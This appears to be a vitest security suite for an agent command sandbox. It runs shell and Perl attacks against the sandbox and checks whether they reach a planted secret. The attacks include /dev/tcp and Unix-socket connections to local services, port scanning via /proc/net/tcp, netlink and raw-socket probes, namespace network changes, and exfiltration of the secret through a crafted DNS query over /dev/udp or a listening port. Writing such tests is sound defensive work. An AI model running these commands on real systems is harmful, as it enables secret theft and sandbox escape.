import { createSocket, type Socket as UdpSocket } from "node:dgram";
import { once } from "node:events";
import { type AddressInfo, connect, createServer, type Server } from "node:net";
import { join } from "node:path";
import { describe, onTestFinished } from "vitest";
import { IS_ROOT } from "../testing/confined.ts";
import { attacks } from "./attack.suite.ts";
import { type Ground, SANDBOX_SIDES, SECRET } from "./ground.ts";

/** A service of this machine that tells everyone the secret. */
async function service(where: string | { host: string }): Promise<Server> {
  const server = createServer((socket) => socket.on("error", () => undefined).end(SECRET));
  if (typeof where === "string") server.listen(where);
  else server.listen(0, where.host);
  await once(server, "listening");
  onTestFinished(() => void server.close());
  return server;
}

const portOf = (server: Server | UdpSocket): number => (server.address() as AddressInfo).port;

const perl = (script: string) => `perl -MSocket -e '${script}'`;

describe("a command that reaches for a service of this machine", () => {
  attacks<Ground>(SANDBOX_SIDES, {
    "connects to a port of the loopback address": async ({ reveals }) => {
      const port = portOf(await service({ host: "127.0.0.1" }));
      return reveals(`exec 5<> /dev/tcp/127.0.0.1/${port}; cat <&5`);
    },
    "connects by another version of the address": async ({ reveals }) => {
      const port = portOf(await service({ host: "::ffff:127.0.0.1" }));
      return reveals(`exec 5<> /dev/tcp/::ffff:127.0.0.1/${port}; cat <&5`);
    },
    "connects to a socket that lies in the workspace": async ({ reveals, workspace }) => {
      await service(join(workspace, "service"));
      const open = "socket(my $s, AF_UNIX, SOCK_STREAM, 0)";
      return reveals(perl(`${open}; connect($s, sockaddr_un("service")); print <$s>`));
    },
    "connects to a socket that has a name and no file": async ({ reveals }) => {
      const name = `agentloop-attack-${Math.random()}`;
      await service(`\0${name}`);
      const open = "socket(my $s, AF_UNIX, SOCK_STREAM, 0)";
      return reveals(perl(`${open}; connect($s, pack_sockaddr_un("\\0${name}")); print <$s>`));
    },
    "sees which ports are in use": async ({ shell }) => {
      const port = portOf(await service({ host: "127.0.0.1" }));
      const hex = port.toString(16).toUpperCase().padStart(4, "0");
      return (await shell("cat /proc/net/tcp")).stdout.includes(`0100007F:${hex}`);
    },
    "asks the kernel about all sockets": async ({ shell }) => {
      const [netlink, raw, diagnosis] = [16, 3, 4];
      const script = `print "asked" if socket(my $s, ${netlink}, ${raw}, ${diagnosis})`;
      return (await shell(perl(script))).stdout === "asked";
    },
    "changes the network of a namespace of its own": async ({ shell }) =>
      (await shell("unshare -Urn sh -c 'echo 1 > /proc/sys/net/ipv4/ip_forward && echo changed'")).stdout ===
      "changed\n",
  });
});

describe("a command that sends away what it knows", () => {
  /** Where datagrams arrive; tells whether one with the secret has come. */
  const resolver = async () => {
    const socket = createSocket("udp4").bind(0, "127.0.0.1");
    await once(socket, "listening");
    onTestFinished(() => void socket.close());
    const received: string[] = [];
    const last = Promise.withResolvers<void>();
    socket.on("message", (message) => {
      received.push(message.toString("latin1"));
      if (message.toString() === "last") last.resolve();
    });
    return {
      port: portOf(socket),
      /** They come in the order in which they were sent. */
      heard: async () => {
        const sender = createSocket("udp4");
        sender.send("last", portOf(socket), "127.0.0.1", () => sender.close());
        await last.promise;
        return received.some((message) => message.includes(SECRET));
      },
    };
  };

  attacks<Ground>(SANDBOX_SIDES, {
    "asks a name server for a name that holds it": async ({ shell }) => {
      const { port, heard } = await resolver();
      const [header, length] = [
        "\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00",
        SECRET.length,
      ];
      const question = `\\x${length.toString(16).padStart(2, "0")}${SECRET}\\x04evil\\x00\\x00\\x01\\x00\\x01`;
      await shell(`printf '${header}${question}' > /dev/udp/127.0.0.1/${port}`);
      return heard();
    },
    "sends it to a port that listens": async ({ shell }) => {
      const got = Promise.withResolvers<boolean>();
      const server = createServer((socket) => {
        socket.once("data", (data) => got.resolve(data.toString().includes(SECRET)));
      }).listen(0, "127.0.0.1");
      onTestFinished(() => void server.close());
      await once(server, "listening");
      const { exit } = await shell(`exec 5<> /dev/tcp/127.0.0.1/${portOf(server)} && echo ${SECRET} >&5`);
      return exit.exitCode === 0 && got.promise;
    },
    "waits at a port until somebody fetches it": async ({ shell }) => {
      const abort = new AbortController();
      let fetched: Promise<boolean> | undefined;
      const port = await freePort();
      const listen = `socket(my $s, AF_INET, SOCK_STREAM, 0); bind($s, sockaddr_in(${port}, INADDR_LOOPBACK));
        listen($s, 1); $| = 1; print "up\\n"; accept(my $c, $s); print $c "${SECRET}"`;
      await shell(perl(listen), {
        signal: abort.signal,
        onOutput: () => {
          fetched ??= fetch(port).finally(() => abort.abort());
        },
      });
      return fetched ?? false;
    },
  });
});

describe.runIf(IS_ROOT)("a command of root", () => {
  attacks<Ground>(SANDBOX_SIDES, {
    "listens to what others send": async ({ shell }) => {
      const [packet, raw, everything] = [17, 3, 0x0300];
      const script = `print "listening" if socket(my $s, ${packet}, ${raw}, ${everything})`;
      return (await shell(perl(script))).stdout === "listening";
    },
  });
});

/** A port that nobody has at the moment. */
async function freePort(): Promise<number> {
  const server = createServer().listen(0, "127.0.0.1");
  await once(server, "listening");
  const port = portOf(server);
  server.close();
  await once(server, "close");
  return port;
}

/** Whether the secret is to be had at a port of this machine. */
async function fetch(port: number): Promise<boolean> {
  const chunks: Buffer[] = await connect(port, "127.0.0.1")
    .toArray()
    .catch(() => []);
  return Buffer.concat(chunks).toString().includes(SECRET);
}
